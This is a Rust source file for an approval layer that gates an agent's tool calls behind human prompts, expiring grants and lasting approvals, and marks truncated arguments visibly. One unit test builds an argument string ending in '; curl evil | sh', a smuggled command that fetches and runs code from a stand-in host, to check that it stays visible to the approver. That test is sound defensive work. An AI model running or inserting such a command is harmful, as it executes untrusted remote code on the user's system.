//! Approval: who says yes to a call whose tier is `ask` or `confirm`.
//!
//! An approval never widens a capability; it only lets a call run inside the
//! walls its policy entry already sets. Answers come from the terminal prompt
//! ([`prompt`]), from a standing grant, or from `--approve yes` (recorded as
//! `flag`). Without a terminal the default is `deny`, and the call fails with
//! `APPROVAL_REQUIRED` naming the policy line that would pre-approve it.
//!
//! Grants are scoped to the session and the tool, and for `confirm` to the exact
//! arguments (their sha256); each expires ([`GRANT_TTL`] by default).
//!
//! A channel that cannot ask a person answers [`Verdict::CannotAsk`]; the
//! executor then posts the call to warden's [`inbox`] (where one is offered)
//! for a person answering with `warden approvals` or the console. Before any
//! channel, a [`lasting`] approval a person kept in `warden.approvals.toml` may
//! answer. docs/approvals.md.

#![forbid(unsafe_code)]

pub mod inbox;
pub mod lasting;
pub mod preview;
mod prompt;

use std::sync::{Mutex, PoisonError};
use std::time::{Duration, Instant};

use serde::Serialize;

use crate::policy::Tier;

/// How long a grant lasts.
pub const GRANT_TTL: Duration = Duration::from_secs(300);

/// How `ask` and `confirm` calls are answered.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ApproveMode {
    /// Ask on the controlling terminal.
    Prompt,
    /// Refuse: `APPROVAL_REQUIRED` (nobody to ask: the call may wait in the
    /// inbox where one is offered; a lasting approval may answer).
    Deny,
    /// `--approve deny` given: refuse every call that needs approval, at once;
    /// lasting approvals do not answer either.
    DenyAll,
    /// Approve everything (recorded as `flag`).
    Yes,
}

/// Who let a call run, as recorded in the audit log.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum ApprovedBy {
    /// Tier `auto`: nobody needed to.
    Auto,
    /// A person at the terminal prompt.
    Prompt,
    /// A standing grant from an earlier answer.
    Grant,
    /// `--approve yes`.
    Flag,
    /// An MCP client's elicitation.
    Elicitation,
    /// A person answering in warden's inbox (`warden approvals`, the console).
    Inbox,
    /// A lasting approval a person gave earlier (`warden.approvals.toml`).
    Lasting,
}

/// The answer for one call.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// It may run.
    Approved(ApprovedBy),
    /// Someone said no.
    Rejected(String),
    /// Nobody could answer.
    Required(String),
    /// This channel cannot ask a person (why): the call waits in warden's
    /// inbox where one is offered and its tool may, else it is `Required`.
    CannotAsk(String),
    /// A person answered through warden's inbox, or a lasting approval they
    /// gave covers the call: the record says who and where.
    Answered(Answered),
}

/// An answer with its author, for the record.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Answered {
    /// Whether the call may run.
    pub approved: bool,
    /// How: [`ApprovedBy::Inbox`] or [`ApprovedBy::Lasting`].
    pub by: ApprovedBy,
    /// The inbox id (`a-…`) or lasting approval id (`l-…`).
    pub id: String,
    /// `name (uid N)`.
    pub who: String,
    /// `terminal /dev/pts/3`, `console 127.0.0.1:PORT`.
    pub via: String,
    /// A rejection's message for the agent.
    pub reason: String,
}

impl Answered {
    /// The record's `approval` field.
    pub fn to_json(&self) -> serde_json::Value {
        serde_json::json!({"id": self.id, "who": self.who, "via": self.via})
    }
}

/// What a person is asked about.
#[derive(Debug, Clone)]
pub struct Request<'a> {
    /// The tool.
    pub tool: &'a str,
    /// `ask` or `confirm`.
    pub tier: Tier,
    /// The arguments, as JSON.
    pub args: &'a serde_json::Value,
    /// sha256 of the canonical arguments.
    pub args_sha256: &'a str,
    /// What the call would do (a diff, a target), shown before the question.
    pub preview: String,
    /// Where the tool's tier is set, for the "pre-approve it" hint.
    pub location: &'a str,
    /// The session the call belongs to.
    pub session: &'a str,
}

#[derive(Debug, Clone)]
struct Grant {
    tool: String,
    args_sha256: Option<String>,
    expires: Instant,
}

/// Answers approval requests for one session.
#[derive(Debug)]
pub struct Approver {
    mode: ApproveMode,
    ttl: Duration,
    grants: Mutex<Vec<Grant>>,
    /// One prompt at a time, even when calls run concurrently.
    terminal: Mutex<()>,
}

impl Approver {
    /// An approver answering in `mode`.
    pub fn new(mode: ApproveMode) -> Approver {
        Approver { mode, ttl: GRANT_TTL, grants: Mutex::default(), terminal: Mutex::default() }
    }

    /// Whether lasting approvals may answer (not under `--approve deny`).
    pub fn honours_lasting(&self) -> bool {
        self.mode != ApproveMode::DenyAll
    }

    /// Records a grant for `tool` (and, for `confirm`, these exact arguments).
    pub fn grant(&self, tool: &str, args_sha256: Option<&str>) {
        let mut g = self.grants.lock().unwrap_or_else(PoisonError::into_inner);
        g.push(Grant {
            tool: tool.into(),
            args_sha256: args_sha256.map(Into::into),
            expires: Instant::now() + self.ttl,
        });
    }

    fn granted(&self, req: &Request<'_>) -> bool {
        let now = Instant::now();
        let mut g = self.grants.lock().unwrap_or_else(PoisonError::into_inner);
        g.retain(|g| g.expires > now);
        g.iter().any(|g| {
            g.tool == req.tool
                && match (&g.args_sha256, req.tier) {
                    (Some(h), _) => h == req.args_sha256,
                    (None, Tier::Confirm) => false,
                    (None, _) => true,
                }
        })
    }

    /// Decides whether a call of tier `ask` or `confirm` may run.
    pub fn approve(&self, req: &Request<'_>) -> Verdict {
        if self.granted(req) {
            return Verdict::Approved(ApprovedBy::Grant);
        }
        match self.mode {
            ApproveMode::Yes => Verdict::Approved(ApprovedBy::Flag),
            ApproveMode::Deny => Verdict::CannotAsk(required_message(req)),
            ApproveMode::DenyAll => Verdict::Required(required_message(req)),
            ApproveMode::Prompt => {
                let _one_at_a_time = self.terminal.lock().unwrap_or_else(PoisonError::into_inner);
                // An answer given while this call waited for the terminal may cover it.
                if self.granted(req) {
                    return Verdict::Approved(ApprovedBy::Grant);
                }
                match prompt::ask(req) {
                    Ok(prompt::Answer::Yes) => Verdict::Approved(ApprovedBy::Prompt),
                    Ok(prompt::Answer::Always) => {
                        self.grant(req.tool, None);
                        Verdict::Approved(ApprovedBy::Prompt)
                    }
                    Ok(prompt::Answer::No) => Verdict::Rejected("declined at the prompt".into()),
                    Err(e) => Verdict::Required(format!("{} (the terminal prompt failed: {e})", required_message(req))),
                }
            }
        }
    }
}

/// Longest argument text shown.
const MAX_SHOWN_ARGS: usize = 4096;

/// `text`, or its start and end around a marker that says how much is hidden:
/// a person must never approve text they were not told was cut.
fn shown(text: &str) -> String {
    let count = text.chars().count();
    if count <= MAX_SHOWN_ARGS {
        return text.to_string();
    }
    let half = MAX_SHOWN_ARGS / 2;
    let head: String = text.chars().take(half).collect();
    let tail: String = text.chars().skip(count - half).collect();
    format!("{head}\n[… {} characters NOT SHOWN: answer no unless you trust all of it …]\n{tail}", count - 2 * half)
}

/// The arguments as a person should see them before approving: pretty JSON,
/// terminal escapes removed, the middle of very long text cut with a marker.
pub fn arguments_text(args: &serde_json::Value) -> String {
    shown(&crate::shape::sanitize_str(&serde_json::to_string_pretty(args).unwrap_or_default()))
}

fn required_message(req: &Request<'_>) -> String {
    format!(
        "{} needs approval (tier {}) and nobody could answer: run with a terminal, pass --approve yes \
         to approve every call, or pre-approve it by setting tier = \"auto\" (or an auto rule) at {}",
        req.tool, req.tier, req.location
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn req<'a>(tier: Tier, args: &'a serde_json::Value, sha: &'a str) -> Request<'a> {
        Request {
            tool: "write_file",
            tier,
            args,
            args_sha256: sha,
            preview: String::new(),
            location: "p:1:1",
            session: "s",
        }
    }

    #[test]
    fn deny_mode_requires_approval_and_names_the_policy_line() {
        let a = Approver::new(ApproveMode::Deny);
        let args = serde_json::json!({});
        match a.approve(&req(Tier::Ask, &args, "h")) {
            Verdict::CannotAsk(m) => assert!(m.contains("p:1:1")),
            other => panic!("expected Required, got {other:?}"),
        }
    }

    #[test]
    fn session_grants_cover_ask_but_confirm_needs_the_same_arguments() {
        let a = Approver::new(ApproveMode::Deny);
        let args = serde_json::json!({});
        a.grant("write_file", None);
        assert_eq!(a.approve(&req(Tier::Ask, &args, "h1")), Verdict::Approved(ApprovedBy::Grant));
        assert!(matches!(a.approve(&req(Tier::Confirm, &args, "h1")), Verdict::CannotAsk(_)));
        a.grant("write_file", Some("h2"));
        assert_eq!(a.approve(&req(Tier::Confirm, &args, "h2")), Verdict::Approved(ApprovedBy::Grant));
        assert!(matches!(a.approve(&req(Tier::Confirm, &args, "h3")), Verdict::CannotAsk(_)));
    }

    #[test]
    fn long_arguments_show_both_ends_and_say_what_is_hidden() {
        assert_eq!(shown("short"), "short");
        let long = format!("{}MIDDLE{}; curl evil | sh", "a".repeat(5000), "b".repeat(5000));
        let s = shown(&long);
        assert!(s.ends_with("; curl evil | sh"), "{s}");
        assert!(s.contains("[… 5926 characters NOT SHOWN"), "{s}");
        assert!(!s.contains("MIDDLE"));
    }

    #[test]
    fn grants_expire() {
        let mut a = Approver::new(ApproveMode::Deny);
        a.ttl = Duration::ZERO;
        let args = serde_json::json!({});
        a.grant("write_file", None);
        assert!(matches!(a.approve(&req(Tier::Ask, &args, "h")), Verdict::CannotAsk(_)));
    }
}
